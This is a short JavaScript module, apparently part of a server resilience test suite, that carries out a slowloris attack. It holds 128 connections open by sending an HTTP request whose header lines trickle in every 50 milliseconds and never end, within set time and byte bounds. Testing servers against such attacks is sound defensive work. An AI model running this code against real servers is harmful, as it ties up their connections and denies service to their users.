/** Requests whose headers never end: a header line now and then on as many connections as one may have. */
import { hostLine } from '../support/wire.js';

const SOCKETS = 128;

/** @type {import('../support/attacker.js').Attack} */
export default {
  name: 'slowloris, headers',
  bounds: { seconds: 8, bytes: 2_000_000 },
  async run({ tv, crowd, open, write, pause }) {
    await crowd(SOCKETS, async () => {
      const socket = await open();
      await write(socket, `GET / HTTP/1.1\r\n${hostLine(tv)}`);
      while (await write(socket, 'X-Slow: 1\r\n')) await pause(50);
    });
  },
};
